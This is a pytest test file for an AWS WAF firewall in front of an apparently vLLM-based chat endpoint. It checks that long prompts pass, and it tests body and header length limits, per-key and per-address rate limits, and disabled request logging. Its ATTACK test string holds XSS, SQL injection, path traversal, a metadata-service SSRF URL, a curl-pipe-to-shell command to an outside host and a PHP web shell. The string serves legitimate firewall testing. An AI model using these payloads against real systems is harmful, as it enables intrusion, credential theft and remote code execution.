"""What the firewall of a stack refuses, and that it never is what a prompt says."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from rehearsal.graph.model import Resource
from tests.program.cases import Case, load_case
from tests.program.firewall import MANAGED, Request, counted, verdicts

ACL = "aws:wafv2/webAcl:WebAcl"
PLACE = "aws:wafv2/webAclAssociation:WebAclAssociation"
LOGGING = "aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration"
ATTACK = """<script>alert(document.cookie)</script> ../../etc/passwd ' OR 1=1; DROP TABLE users; --
SELECT * FROM t WHERE a = 'b' UNION SELECT password FROM users;  http://169.254.169.254/latest/meta-data/
$(curl http://203.0.113.5/x.sh | sh)  <?php system($_GET['c']); ?>
"""
PROMPT = (ATTACK * (100_000 // len(ATTACK) + 1))[:100_000]


def chat(prompt: str) -> bytes:
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": prompt}]}).encode()


@pytest.fixture
def acl() -> Mapping[str, Any]:
    return load_case("internet").only(ACL).inputs


def test_a_long_prompt_with_code_html_and_sql_passes(acl: Mapping[str, Any]) -> None:
    request = Request.of(chat(PROMPT))
    assert len(request.body) >= 100_000
    assert verdicts(acl, [request]) == [200]
    assert counted(acl, request) == {name for name in MANAGED if name.endswith("_BODY")}


def test_without_its_exceptions_the_same_prompt_would_not_pass(acl: Mapping[str, Any]) -> None:
    changed = json.loads(json.dumps(dict(acl)))
    for rule in changed["rules"]:
        rule["statement"].get("managedRuleGroupStatement", {}).pop("ruleActionOverrides", None)
    assert verdicts(changed, [Request.of(chat(PROMPT))]) == [403]


@pytest.mark.parametrize("part", sorted(set(MANAGED.values()) - {"body"}))
def test_the_common_rules_do_act_on_everything_but_the_body(acl: Mapping[str, Any], part: str) -> None:
    plain = Request.of(b"")
    odd = Request(headers=plain.headers, odd=frozenset({part}))
    assert verdicts(acl, [plain, odd]) == [200, 403]


def test_a_request_longer_than_any_honest_one_is_refused_by_its_header(acl: Mapping[str, Any]) -> None:
    bound = load_case("internet").plan.longest_request_bytes
    lengths = {str(bound - 1): 200, str(bound): 413, f"000{bound}": 413, str(bound * 10): 413, "9" * 30: 413, "0": 200}
    requests = [Request.of(b"{}", content_length=length) for length in lengths]
    assert verdicts(acl, requests) == list(lengths.values())


def test_a_long_body_says_how_long_it_is(acl: Mapping[str, Any]) -> None:
    """Else a body in chunks would have no bound at all."""
    headers = {name: text for name, text in Request.of(b"").headers.items() if name != "content-length"}
    short, long = Request(headers=headers, body=b"x" * 8191), Request(headers=headers, body=b"x" * 8193)
    odd = Request(headers={**headers, "content-length": "many"}, body=b"x" * 8193)
    assert verdicts(acl, [short, long, odd]) == [200, 413, 413]


def test_each_key_has_its_own_limit_however_the_header_is_spelled(acl: Mapping[str, Any]) -> None:
    one = [Request.of(b"{}", authorization=spelled) for spelled in ("Bearer sk-one", "bEARER sk-one")] * 300
    other = Request.of(b"{}", authorization="Bearer sk-two")
    without = Request(headers={"user-agent": "x"})
    found = verdicts(acl, [*one, one[0], one[1], other, without])
    assert found[:600] == [200] * 600
    assert found[600:] == [429, 429, 200, 200]


def test_each_address_has_its_own_limit_with_or_without_a_key(acl: Mapping[str, Any]) -> None:
    keys = [f"Bearer sk-{number % 20}" for number in range(3000)]
    many = [Request.of(b"{}", authorization=key) for key in keys]
    guess = Request.of(b"{}", authorization="Bearer sk-guess")
    elsewhere = Request(headers=guess.headers, address="198.51.100.7")
    assert verdicts(acl, [*many, guess, elsewhere])[3000:] == [429, 200]


def test_clients_understand_a_refusal_and_when_to_come_back(acl: Mapping[str, Any]) -> None:
    bodies = {entry["key"]: json.loads(entry["content"]) for entry in acl["customResponseBodies"]}
    assert all(set(body["error"]) == {"message", "type", "param", "code"} for body in bodies.values())
    refusals = [rule["action"]["block"]["customResponse"] for rule in acl["rules"] if "action" in rule]
    assert {refusal["customResponseBodyKey"] for refusal in refusals} == set(bodies)
    late = [refusal for refusal in refusals if refusal["responseCode"] == 429]
    assert [refusal["responseHeaders"] for refusal in late] == [[{"name": "retry-after", "value": "60"}]] * 2


def test_there_is_a_firewall_only_where_one_is_asked_for_and_it_stands_before_the_load_balancer(case: Case) -> None:
    acls, places = case.graph.of_type(ACL), case.graph.of_type(PLACE)
    assert bool(acls) == case.config.endpoint.has_firewall
    assert len(acls) == len(places) <= 1
    for place in places:
        balancer = case.only("aws:lb/loadBalancer:LoadBalancer")
        assert place.property_dependencies["resourceArn"] == (balancer.urn,)
        assert place.property_dependencies["webAclArn"] == (acls[0].urn,)


def test_no_prompt_and_no_key_is_kept(case: Case) -> None:
    """A log or a sample would hold the headers, and so the key."""
    assert not case.graph.of_type(LOGGING)
    for acl in case.graph.of_type(ACL):
        assert '"sampledRequestsEnabled": true' not in json.dumps(dict(acl.inputs))
        assert {shown["sampledRequestsEnabled"] for shown in visible(acl)} == {False}
        assert all(shown["metricName"].startswith(f"vllm-{case.config.stack}") for shown in visible(acl))


def visible(acl: Resource) -> list[Mapping[str, Any]]:
    return [acl.inputs["visibilityConfig"], *(rule["visibilityConfig"] for rule in acl.inputs["rules"])]


def test_a_rate_limit_alone_brings_the_firewall_with_that_limit() -> None:
    rules = {rule["name"] for rule in load_case("rate-limit").only(ACL).inputs["rules"]}
    assert rules == {"request-length", "rate-per-key", "common-rules"}
